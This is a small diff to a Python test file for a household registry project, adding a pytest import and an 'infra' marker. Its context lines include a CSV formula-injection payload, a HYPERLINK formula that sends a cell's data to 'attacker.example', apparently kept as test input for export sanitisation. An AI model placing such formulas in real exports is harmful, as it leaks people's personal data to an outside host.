@@ -7,11 +7,15 @@ import csv
 import io
 import json
 
+import pytest
+
 from dtks_contracts.household import Member
 from dtks_contracts.vocabulary.programs import Program
 from dtks_contracts.vocabulary.roles import Role
 from dtks_registry.domain.identity import household_id_for
 from dtks_registry.testing import acceptance, ago, make_household
+
+pytestmark = pytest.mark.infra
 
 FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Klik")'
 
